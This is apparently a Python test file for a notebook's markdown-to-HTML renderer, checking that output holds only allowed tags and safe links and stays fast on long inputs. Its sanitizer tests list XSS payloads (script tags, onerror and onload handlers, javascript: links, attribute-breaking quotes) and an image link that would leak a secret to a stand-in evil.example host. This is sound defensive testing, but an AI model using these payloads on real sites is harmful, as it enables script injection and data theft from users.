"""The answer that a notebook keeps is readable, and can neither run nor fetch anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from piweb_jupyter.notebook.markdown import render_markdown

TAGS = {
    *("p", "pre", "code", "h3", "h4", "h5", "h6", "hr", "blockquote", "ul", "ol", "li"),
    *("table", "tr", "th", "td", "a", "strong", "em"),
}


class Checker(HTMLParser):
    """Fails at anything that is not ours, and knows whether all that was opened is closed."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ("href", "target", "rel", "start"), name
            if name == "href":
                assert value is not None
                assert value.startswith(("http://", "https://"))
        if tag != "hr":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def check(text: str) -> Checker:
    checker = Checker()
    checker.feed(render_markdown(text))
    checker.close()
    assert checker.open == []
    return checker


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
        ("# Title #\ntext", "<h3>Title</h3><p>text</p>"),
        (
            "**bold**, *soft*, `a<b`",
            "<p><strong>bold</strong>, <em>soft</em>, <code>a&lt;b</code></p>",
        ),
        ("snake_case_name and 2*3*4", "<p>snake_case_name and 2*3*4</p>"),
        (
            "```python\nif a < b:\n    pass\n```\nafter",
            "<pre><code>if a &lt; b:\n    pass</code></pre><p>after</p>",
        ),
        ("```\nnever closed", "<pre><code>never closed</code></pre>"),
        ("- a\n- b\n  more", "<ul><li>a</li><li>b more</li></ul>"),
        ("3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'),
        ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
        ("> said\n> so", "<blockquote><p>said\nso</p></blockquote>"),
        (
            "a | b\n--|--\n1 | 2",
            "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>",
        ),
        ("---", "<hr>"),
        ("``a ` b``", "<p><code>a ` b</code></p>"),
        (
            "[docs](https://example.org/a?b=1&c=2)",
            '<p><a href="https://example.org/a?b=1&amp;c=2" target="_blank" '
            'rel="noopener noreferrer">docs</a></p>',
        ),
        ("", ""),
    ],
)
def test_what_models_write(text: str, html: str) -> None:
    assert render_markdown(text) == html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=https://evil.example/x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        '[x](https://a.example/"onmouseover="alert(1))',
        '[<img src=x>](https://a.example/"><script>)',
        "`<b>` <iframe src='https://evil.example'>",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "# <svg onload=alert(1)>",
        "| <b> | `|` |\n|---|---|\n| <style>*{} | x |",
        "**<u>**x</u>",
        "&lt;script&gt;",
        "> " * 50 + "deep",
        "\n".join("  " * n + "- x" for n in range(60)),
    ],
)
def test_nothing_in_it_runs_or_fetches(text: str) -> None:
    check(text)


PIECES = [
    "**",
    "*",
    "`",
    "``",
    "[a](http://x)",
    "[",
    "](http://y)",
    "\n",
    "- ",
    " ",
    "a",
    "<b",
    "> ",
]
PIECES += ["|", "---|---", "1. ", "```\n", "# ", '"']


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_any_text_gives_whole_and_harmless_html(text: str) -> None:
    check(text)


@pytest.mark.parametrize(
    "mark", ["[", "*", "**a", "`", "``a", "> ", "|", "- ", "#", "[a](", "~~~\n"]
)
def test_a_long_row_of_one_mark_takes_no_time_to_speak_of(mark: str) -> None:
    check(mark * 20_000)


def test_what_is_very_long_is_shown_as_it_is() -> None:
    assert render_markdown("*x* " * 100_000).startswith("<pre>*x* ")
